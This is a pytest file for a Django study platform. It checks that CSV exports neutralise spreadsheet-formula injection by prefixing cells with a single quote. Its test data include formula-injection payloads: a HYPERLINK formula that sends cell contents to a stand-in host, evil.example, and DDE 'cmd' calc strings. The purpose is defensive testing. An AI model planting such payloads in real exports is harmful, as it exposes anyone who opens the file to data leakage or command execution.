"""Text typed by participants cannot become a spreadsheet formula in the
study export: every CSV cell that starts like one (= + - @, tab, carriage
return) is written with a single quote in front, as the codebook says."""

import csv

import pytest

from graph import services as graph_services
from graph import stories
from graph.models import StoryAssignment
from interviews import services as chat
from journey import exports
from mgeplatform.csvfiles import TRIGGERS, unquote
from studies.models import ProlificDemographics, ProlificIdentity, Step
from tests.factories import move_to, parent_with_card

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'quoted already",
]


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(directory):
    for path in sorted(directory.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    yield path.name, cell


@pytest.fixture
def typed_formulas(graph_study):
    """A participant whose chat, card, vote reason, demographics and
    Prolific id all start like formulas."""
    study, values = graph_study
    stories.generate_stories(study, reverse=True)
    participant, client = parent_with_card(study, "typist", values[1])
    ProlificIdentity.objects.filter(participant=participant).update(prolific_pid="=cmd|' /C calc'!A0")
    card = participant.interviews.get().cards.get()
    card.title, card.description, card.policies = FORMULAS[0], FORMULAS[1], FORMULAS[2:5]
    card.save()
    interview = card.interview
    for i, text in enumerate(FORMULAS):
        message, _ = chat.add_user_message(interview_id=interview.pk, text="x", client_message_id=f"f{i}")
        message.content = text  # add_user_message strips; what a pasted cell keeps is the point here
        message.save(update_fields=["content"])
    move_to(participant, Step.STORIES)
    client.get(f"/s/{study.slug}/journey/")
    assignment = StoryAssignment.objects.filter(participant=participant).order_by("position").first()
    graph_services.record_vote(
        participant=participant, assignment=assignment, answer="yes", reason='=HYPERLINK("http://evil.example")'
    )
    ProlificDemographics.objects.create(
        participant=participant, data={"Age": "-34", "Note": "@note"}, source_name="prolific.csv"
    )
    assert ProlificIdentity.objects.get(participant=participant).prolific_pid.startswith("=")
    return study, participant


def test_every_exported_csv_neutralises_formula_cells(typed_formulas, tmp_path):
    study, _ = typed_formulas
    exports.export_study(study, tmp_path, identities_reason="checking the export is safe to open")
    cells = list(_cells(tmp_path))
    dangerous = [
        (name, cell)
        for name, cell in cells
        if cell.startswith(TRIGGERS) and not cell.startswith("'") and not _is_number(cell)
    ]
    assert dangerous == []
    written = {cell for _, cell in cells}
    for text in FORMULAS:
        assert "'" + text in written, text  # neutralised, and the original is one quote away
    assert "'" + '=HYPERLINK("http://evil.example")' in written  # the vote reason
    assert {"'-34", "'@note"} <= written  # imported demographics
    assert "'=cmd|' /C calc'!A0" in written  # the Prolific id
    assert {unquote(cell) for cell in written} >= set(FORMULAS)
    files = {name for name, _ in cells}
    assert {"messages.csv", "cards.csv", "votes.csv", "participants.csv", "prolific_identities.csv"} <= files


def test_the_codebook_states_the_rule(typed_formulas, tmp_path):
    exports.export_study(typed_formulas[0], tmp_path)
    codebook = (tmp_path / "codebook.md").read_text(encoding="utf-8")
    assert "single quote" in codebook and "= + - @" in codebook
